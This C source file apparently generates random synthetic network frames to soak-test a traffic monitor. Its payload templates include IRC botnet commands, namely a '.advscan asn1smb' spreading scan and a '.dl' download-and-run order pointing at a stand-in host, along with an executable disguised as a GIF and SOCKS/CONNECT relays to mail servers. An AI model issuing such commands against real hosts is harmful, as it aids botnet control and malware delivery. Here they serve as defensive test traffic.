/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Raw IP frames out of a random number generator, for sekimori-soak. What they say is made up; what is said on which
 * port has no meaning, since flows are told by their content. */
#include "traffic.h"

#include <netinet/in.h>
#include <stdio.h>

#define LINK_RAW 101

enum {
        SYN = 0x02,
        PSH_ACK = 0x18,
};

uint32_t traffic_any(struct traffic *t, uint32_t below)
{
        t->random ^= t->random << 13; /* xorshift64, Marsaglia 2003 */
        t->random ^= t->random >> 7;
        t->random ^= t->random << 17;
        return (uint32_t) (t->random >> 32) % below;
}

static void be16(uint8_t *p, uint32_t v)
{
        p[0] = (uint8_t) (v >> 8);
        p[1] = (uint8_t) v;
}

static void be32(uint8_t *p, uint32_t v)
{
        be16(p, v >> 16);
        be16(p + 2, v);
}

struct say {
        const uint8_t *data;
        uint32_t len, seq, ack;
        uint8_t flags;
};

static uint32_t header_len(uint8_t proto)
{
        return proto == IPPROTO_TCP ? 20 : 8;
}

static void put_transport(uint8_t *p, const struct traffic_tuple *n, const struct say *s)
{
        memset(p, 0, header_len(n->proto));
        if (n->proto == IPPROTO_ICMP) {
                p[0] = 8; /* echo */
                be16(p + 4, n->dport);
        } else {
                be16(p, n->sport);
                be16(p + 2, n->dport);
        }
        if (n->proto == IPPROTO_UDP)
                be16(p + 4, 8 + s->len);
        if (n->proto == IPPROTO_TCP) {
                be32(p + 4, s->seq);
                be32(p + 8, s->ack);
                p[12] = 0x50;
                p[13] = s->flags;
        }
        if (s->len)
                memcpy(p + header_len(n->proto), s->data, s->len);
}

static void put(const struct traffic_tuple *n, const struct say *s, nsec_t time, uint8_t *at, struct frame *ret)
{
        uint32_t inside = header_len(n->proto) + s->len, ip = addr_is_v4(&n->src) ? 20 : 40;

        memset(at, 0, ip);
        if (ip == 20) {
                at[0] = 0x45;
                be16(at + 2, ip + inside);
                at[8] = 64;
                at[9] = n->proto;
                memcpy(at + 12, n->src.b + 12, 4);
                memcpy(at + 16, n->dst.b + 12, 4);
        } else {
                at[0] = 0x60;
                be16(at + 4, inside);
                at[6] = n->proto;
                at[7] = 64;
                memcpy(at + 8, n->src.b, 16);
                memcpy(at + 24, n->dst.b, 16);
        }
        put_transport(at + ip, n, s);
        *ret = (struct frame){.time = time, .data = at, .caplen = ip + inside, .len = ip + inside, .link = LINK_RAW};
}

static struct addr address4(uint32_t a)
{
        return addr_from_v4(htonl(a));
}

static struct addr address6(uint32_t net, uint32_t host)
{
        struct addr a = {{0x20, 0x01, 0x0d, 0xb8}};

        be32(a.b + 4, net);
        be32(a.b + 12, host);
        return a;
}

/* Not private, not loopback, not multicast. */
static uint32_t outside(uint32_t random)
{
        return 11u << 24 | (random & 0x7ffffff);
}

static struct traffic_tuple new_tuple(struct traffic *t)
{
        static const uint8_t protos[] = {IPPROTO_TCP, IPPROTO_TCP, IPPROTO_TCP, IPPROTO_TCP,
                                         IPPROTO_UDP, IPPROTO_UDP, IPPROTO_ICMP};
        struct traffic_tuple n = {.proto = protos[traffic_any(t, sizeof(protos))]};
        struct addr swap;

        n.sport = (uint16_t) traffic_any(t, 65536);
        n.dport = (uint16_t) traffic_any(t, traffic_any(t, 2) ? 65536 : 1024);
        if (n.proto != IPPROTO_ICMP && traffic_any(t, 8) == 0) {
                n.src = address6(traffic_any(t, t->hosts), 1);
                n.src.b[0] = 0xfd;
                n.dst = address6(traffic_any(t, 1u << 20), traffic_any(t, 1u << 31));
        } else {
                n.src = address4(10u << 24 | traffic_any(t, t->hosts));
                n.dst = address4(outside(traffic_any(t, 1u << 31)));
        }
        if (traffic_any(t, 4) == 0) { /* somebody outside asks */
                swap = n.src;
                n.src = n.dst;
                n.dst = swap;
        }
        return n;
}

#define SAY(...) ((uint32_t) snprintf((char *) to, 300, __VA_ARGS__))

/* A DNS message of one question (RFC 1035, 4.1). */
static uint32_t put_dns(struct traffic *t, uint8_t *to)
{
        static const uint16_t types[] = {1, 28, 15, 16, 255, 252};
        char name[32];
        uint32_t at = 12, len = (uint32_t) snprintf(name, sizeof(name), "x%xq%x", traffic_any(t, 1u << 30),
                                                    traffic_any(t, 1u << traffic_any(t, 31)));

        memset(to, 0, 12);
        be16(to, traffic_any(t, 65536));
        be16(to + 2, traffic_any(t, 3) ? 0x0100 : 0x8183); /* asks, or: no such name */
        to[5] = 1;
        to[at++] = (uint8_t) len;
        memcpy(to + at, name, len);
        at += len;
        memcpy(to + at, "\7example\3net", 13);
        be16(to + at + 13, types[traffic_any(t, sizeof(types) / sizeof(types[0]))]);
        be16(to + at + 15, 1);
        return at + 17;
}

/* The smallest ClientHello that names a server (RFC 8446, 4.1.2; RFC 6066, 3). */
static uint32_t put_tls(struct traffic *t, uint8_t *to)
{
        char name[40];
        uint32_t len = (uint32_t) snprintf(name, sizeof(name), "h%x.example.org", traffic_any(t, 1u << 28)),
                 hello = 2 + 32 + 1 + 4 + 2 + 2 + 9 + len;

        memset(to, 0, 100);
        to[0] = 22;
        to[1] = 3;
        to[2] = 1;
        be16(to + 3, hello + 4);
        to[5] = 1;
        be16(to + 7, hello);
        to[9] = to[10] = 3;
        be16(to + 44, 2);
        be16(to + 46, 0xc02f);
        to[48] = 1;
        be16(to + 50, 9 + len);
        be16(to + 54, 5 + len);
        be16(to + 56, 3 + len);
        be16(to + 59, len);
        memcpy(to + 61, name, len);
        return 61 + len;
}

static uint32_t put_tcp_text(struct traffic *t, uint8_t *to)
{
        uint32_t a = traffic_any(t, 1u << 30), b = traffic_any(t, 1u << 20);

        switch (traffic_any(t, 12)) {
        case 0:
                return SAY("GET /%x.exe HTTP/1.1\r\nHost: w%x.example.com\r\nUser-Agent: a%x\r\n\r\n", a, b, b & 15);
        case 1:
                return SAY("HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\nContent-Length: 64\r\n\r\nMZ%032x", a);
        case 2:
                return SAY("NICK n%x\r\nUSER u%x 0 * :r\r\nJOIN #c%x key\r\n", a, b, b & 0xfff);
        case 3:
                return SAY(":op!o@h PRIVMSG #c%x :.advscan asn1smb %u 5 0 -r -s\r\n", b & 0xfff, a & 255);
        case 4:
                return SAY(":s 332 me #c%x :.dl http://192.0.2.7/%x.exe y.exe 1\r\n", b & 0xfff, a);
        case 5:
                return SAY("EHLO h%x\r\nMAIL FROM:<a%x@example.org>\r\nRCPT TO:<b@example.com>\r\n", a, b);
        case 6:
                return SAY("220 m%x.example.org ESMTP\r\n", a);
        case 7:
                return SAY("220 ready\r\n230 in\r\n227 Entering Passive Mode (198,51,100,7,%u,%u)\r\n", b & 255,
                           a & 255);
        case 8:
                return SAY("CONNECT m%x.example.net:25 HTTP/1.0\r\n\r\n", a);
        case 9:
                memcpy(to, (const uint8_t[]){4, 1, 0, 25}, 4); /* SOCKS 4 */
                be32(to + 4, outside(a));
                to[8] = 0;
                return 9;
        case 10:
                return put_tls(t, to);
        default:
                for (unsigned i = 0; i < 64; i += 4)
                        be32(to + i, traffic_any(t, UINT32_MAX));
                return 64;
        }
}

void traffic_random(struct traffic *t, nsec_t time, uint8_t *at, struct frame *ret)
{
        uint8_t said[512];
        struct say s = {.data = said, .flags = SYN, .seq = traffic_any(t, UINT32_MAX)};
        struct traffic_tuple n;

        if (t->n_recent > TRAFFIC_RECENT && traffic_any(t, 8) == 0) {
                const struct traffic_tuple *asked = &t->recent[traffic_any(t, TRAFFIC_RECENT)];

                n = *asked;
                n.src = asked->dst;
                n.dst = asked->src;
                n.sport = asked->dport;
                n.dport = asked->sport;
        } else {
                n = new_tuple(t);
                t->recent[t->n_recent % TRAFFIC_RECENT] = n;
                t->n_recent = t->n_recent == 2 * TRAFFIC_RECENT ? TRAFFIC_RECENT + 1 : t->n_recent + 1;
        }
        if (n.proto == IPPROTO_UDP)
                s.len = put_dns(t, said);
        else if (n.proto == IPPROTO_TCP && traffic_any(t, 3) == 0) {
                s.len = put_tcp_text(t, said);
                s.flags = PSH_ACK;
        }
        put(&n, &s, time, at, ret);
}

void traffic_flow(const struct traffic *t, uint64_t flow, unsigned step, nsec_t time, uint8_t *at, struct frame *ret)
{
        static const uint8_t flags[] = {SYN, 0x12, PSH_ACK, PSH_ACK}, zeros[16];
        uint32_t host = (uint32_t) (flow % t->hosts);
        struct say s = {.data = zeros, .flags = flags[step], .seq = 100 + (step > 1), .ack = 101};
        struct traffic_tuple n = {.proto = flow % 4 ? IPPROTO_TCP : IPPROTO_UDP};
        struct addr home = address4(10u << 24 | host), far = address4(outside((uint32_t) flow * 2654435761u));
        uint16_t own = (uint16_t) (1024 + flow % 60000), its = 9000;

        s.len = n.proto == IPPROTO_UDP || step > 1 ? sizeof(zeros) : 0;
        n.src = step % 2 ? far : home;
        n.dst = step % 2 ? home : far;
        n.sport = step % 2 ? its : own;
        n.dport = step % 2 ? own : its;
        put(&n, &s, time, at, ret);
}
